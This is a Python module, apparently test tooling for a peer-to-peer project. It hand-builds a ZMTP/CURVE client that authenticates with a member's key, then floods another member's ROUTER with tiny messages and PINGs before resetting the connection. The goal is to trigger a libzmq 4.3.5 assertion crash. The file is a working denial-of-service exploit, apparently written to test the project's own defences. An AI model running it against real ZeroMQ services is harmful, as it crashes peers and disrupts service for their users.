"""A member's attack on another member's ROUTER, spoken in raw ZMTP over CURVE (RFC 26).

A member holds a key the other members' ROUTERs admit (runtime/gate.py), so it gets past the
handshake that cuts a stranger off; then it can send exactly the bytes it likes. This client
does the CURVE handshake with a member's long-term key (through PyNaCl), then sends 1-byte
messages each followed by a ZMTP PING, both boxed as CURVE ``MESSAGE`` frames, as libzmq's
own encoder makes them, until the connection takes no more bytes, and resets it (libzmq
4.3.5's "Assertion failed: !_io_error" path, docs/protocol.md §9).
"""

from __future__ import annotations

import select
import socket
import struct

from nacl.public import Box, PrivateKey, PublicKey
from nacl.utils import random

from p2p_nertz.deck.vss import x25519_secret
from p2p_nertz.protocol.identity import Identity
from p2p_nertz.runtime.gate import curve_public
from p2p_nertz.runtime.mesh import routing_id

#: A ZMTP PING's body with no TTL (libzmq takes one without), sent boxed with the command
#: flag: at 40 bytes on the wire, the smallest frame CURVE can carry a PING in.
PING_BODY = b"\x04PING"
#: A ZMTP 3.0 client's greeting for the CURVE mechanism.
GREETING = b"\xff" + bytes(8) + b"\x7f" + b"\x03\x00" + b"CURVE".ljust(20, b"\0") + bytes(32)


def _frame(body: bytes, *, command: bool) -> bytes:
    flags = 0x04 if command else 0x00
    if len(body) < 256:
        return bytes([flags, len(body)]) + body
    return bytes([flags | 0x02]) + struct.pack(">Q", len(body)) + body


def _prop(name: bytes, value: bytes) -> bytes:
    return bytes([len(name)]) + name + struct.pack(">I", len(value)) + value


def _recv_frame(sock: socket.socket) -> bytes:
    """One frame's body from ``sock`` (short or long), read whole."""
    head = _recv_exact(sock, 2)
    long = head[0] & 0x02
    return _recv_exact(
        sock, struct.unpack(">Q", head[1:] + _recv_exact(sock, 7))[0] if long else head[1]
    )


def _recv_exact(sock: socket.socket, n: int) -> bytes:
    data = b""
    while len(data) < n:
        more = sock.recv(n - len(data))
        if not more:
            raise ConnectionError("the ROUTER closed the connection during the handshake")
        data += more
    return data


class CurveMember:
    """A CURVE client session with a member's key, past its handshake: :meth:`message` boxes
    what it sends next (a message, or a ZMTP command such as PING)."""

    def __init__(self, sock: socket.socket, member: Identity, server: bytes) -> None:
        self.sock = sock
        long_secret = PrivateKey(x25519_secret(member.to_bytes()))
        server_key = PublicKey(curve_public(server))
        short = PrivateKey.generate()
        sock.sendall(GREETING)
        _recv_exact(sock, 64)  # the server's greeting
        hello_box = Box(short, server_key).encrypt(bytes(64), b"CurveZMQHELLO---" + _n(1))
        sock.sendall(
            _frame(
                b"\x05HELLO\x01\x00" + bytes(72) + bytes(short.public_key) + _n(1)
                + hello_box.ciphertext,
                command=True,
            )
        )  # fmt: skip
        welcome = _recv_frame(sock)
        assert welcome.startswith(b"\x07WELCOME"), welcome[:16]
        opened = Box(short, server_key).decrypt(welcome[24:], b"WELCOME-" + welcome[8:24])
        server_short, cookie = PublicKey(opened[:32]), opened[32:128]
        vouch_nonce = random(16)
        vouch = Box(long_secret, server_short).encrypt(
            bytes(short.public_key) + bytes(server_key), b"VOUCH---" + vouch_nonce
        )
        metadata = _prop(b"Socket-Type", b"DEALER") + _prop(b"Identity", routing_id(member.peer_id))
        self._box = Box(short, server_short)
        initiate = self._box.encrypt(
            bytes(long_secret.public_key) + vouch_nonce + vouch.ciphertext + metadata,
            b"CurveZMQINITIATE" + _n(2),
        )
        sock.sendall(_frame(b"\x08INITIATE" + cookie + _n(2) + initiate.ciphertext, command=True))
        ready = _recv_frame(sock)  # (the gate admitted the key: READY, else a close)
        assert ready.startswith(b"\x05READY"), ready[:16]
        self._nonce = 3

    def message(self, data: bytes, *, command: bool = False) -> bytes:
        """The bytes of one frame carrying ``data`` (a ZMTP command's body if ``command``)."""
        nonce = _n(self._nonce)
        self._nonce += 1
        flags = b"\x02" if command else b"\x00"
        box = self._box.encrypt(flags + data, b"CurveZMQMESSAGEC" + nonce)
        return _frame(b"\x07MESSAGE" + nonce + box.ciphertext, command=False)


def _n(value: int) -> bytes:
    return struct.pack(">Q", value)


def member_floods_and_resets(endpoint: str, member: Identity, server: bytes) -> int:
    """Connect to the ROUTER at ``endpoint`` (the member ``server``'s) as ``member``, send
    1-byte messages each followed by a PING (every frame its own nonce) until the
    connection takes no byte for 2 s, then reset it (``SO_LINGER`` 0). Return the bytes sent
    after the handshake."""
    host, port = endpoint.removeprefix("tcp://").rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=30)
    try:
        client = CurveMember(sock, member, server)
        sock.setblocking(False)
        sent, pending = 0, b""
        while select.select([], [sock], [], 2.0)[1]:
            if not pending:
                pending = b"".join(
                    client.message(b"x") + client.message(PING_BODY, command=True)
                    for _ in range(200)
                )
            try:
                n = sock.send(pending)
            except BlockingIOError:
                continue
            sent, pending = sent + n, pending[n:]
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    finally:
        sock.close()
    return sent
